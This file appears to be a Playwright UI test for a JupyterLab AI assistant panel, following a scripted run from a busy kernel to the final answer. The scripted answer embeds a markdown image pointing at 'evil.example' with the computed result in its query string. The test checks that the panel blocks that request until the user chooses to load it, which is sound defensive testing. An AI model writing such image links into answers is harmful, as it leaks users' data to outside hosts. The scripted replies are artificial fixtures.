"""A run as its user follows it in the panel, from the waiting for the kernel to what the answer rests on."""

from __future__ import annotations

from playwright.sync_api import expect

from tests.scripted import ScriptedModel
from tests.ui.conftest import Open
from tests.ui.lab import Lab

BUSY = "import pathlib, time\nwhile not pathlib.Path('{name}').exists():\n    time.sleep(0.05)"
TABLE = """Loading.

```python
import pandas as pd
data = pd.DataFrame({'species': ['Adelie', 'Gentoo'] * 6, 'mass': range(3700, 4900, 100)})
data
```"""
FIGURES = """Drawing.

```python
from IPython.display import SVG
for color in ('red', 'green', 'blue'):
    display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg"><rect fill="{color}"/></svg>'))
for epoch in range(12):
    print('epoch', epoch, flush=True)
import pathlib, time
while not pathlib.Path('drawn').exists():
    time.sleep(0.05)
print('mean', data.mass.mean())
```"""
ANSWER = "On average it is **4250** g, as ![a picture](https://evil.example/x.png?mean=4250) shows."


def test_a_run_is_followed_from_the_busy_kernel_to_the_cells_that_show_its_answer(
    lab: Lab, served: ScriptedModel, open_notebook: Open
) -> None:
    lab.write("followed.ipynb", BUSY.format(name="free"), "'last'")
    served.script([TABLE, FIGURES, ANSWER, ANSWER])  # which no output shows, says a hook at first
    page = open_notebook("followed.ipynb")
    asked: list[str] = []
    page.page.on("request", lambda request: asked.append(request.url))
    page.open_panel()
    width = page.page.get_by_role("region", name="CodeAct").bounding_box()["width"]
    assert 355 <= width <= 425

    page.edit(0)
    page.page.keyboard.press("Control+Enter")
    page.ask("What is the mean mass?")
    status = page.conversation.get_by_role("group", name="Run under way")
    expect(status).to_contain_text("Step 1 · Waiting for your cell")
    (lab.root / "free").touch()

    expect(status).to_contain_text("Step 2 · Running")
    table = page.conversation.get_by_role("table")
    expect(table.get_by_role("row")).to_have_count(6)  # the heads, and five of twelve
    expect(page.conversation).to_contain_text("12 rows × 2 columns")
    page.conversation.get_by_role("button", name="Show all", exact=True).click()
    expect(table.get_by_role("row")).to_have_count(13)
    expect(page.conversation).to_contain_text("3 figures")
    expect(page.conversation).to_contain_text("epoch 11")  # while the cell still runs
    expect(page.conversation).not_to_contain_text("mean 4250")
    (lab.root / "drawn").touch()

    answer = page.conversation.locator("[data-answer]")
    expect(answer).to_contain_text("On average it is 4250 g")
    expect(answer).to_be_in_viewport()
    expect(page.page.get_by_role("group", name="Next steps").get_by_role("button")).to_have_count(2)
    expect(answer).to_contain_text("Picture not loaded: https://evil.example/x.png?mean=4250")
    assert not [url for url in asked if "evil" in url]
    answer.get_by_role("button", name="4250").click()
    expect(page.notebook.locator(".jp-Cell.jp-mod-active")).to_contain_text("mean 4250.0")

    page.page.mouse.move(*middle(page.conversation.bounding_box()))
    page.page.mouse.wheel(0, -3000)
    expect(answer).not_to_be_in_viewport()
    page.page.get_by_role("button", name="↓ Latest").click()
    expect(answer).to_be_in_viewport()

    answer.get_by_role("button", name="Insert as text below the active cell").click()
    expect(page.notebook.locator(".jp-MarkdownCell")).to_contain_text("On average it is **4250** g")
    assert not [url for url in asked if "evil" in url]
    answer.get_by_role("button", name="Load", exact=True).click()
    expect(answer.get_by_role("img", name="a picture")).to_have_count(1)
    page.page.get_by_role("button", name="Undo this run").click()
    expect(page.conversation).to_contain_text("The run was undone.")
    expect(page.task).to_be_focused()
    page.page.keyboard.press("Escape")
    expect(page.notebook.locator(".jp-Notebook:focus-within")).to_have_count(1)

    page.ask("/check")  # beside the word about Undo
    lines = page.notebook.locator(".jp-CodeAct-noticeLine")
    expect(lines).to_have_count(2)
    page.page.wait_for_function(
        "bar => bar.clientHeight === 64 && bar.scrollHeight === 64",
        arg=lines.first.locator("..").element_handle(),
    )
    page.approval_setting.click()
    chosen = page.page.locator(".lm-Menu-item.lm-mod-toggled")
    expect(chosen.locator("svg")).to_be_visible()
    chosen.click()


def middle(box: dict[str, float] | None) -> tuple[float, float]:
    assert box is not None
    return box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
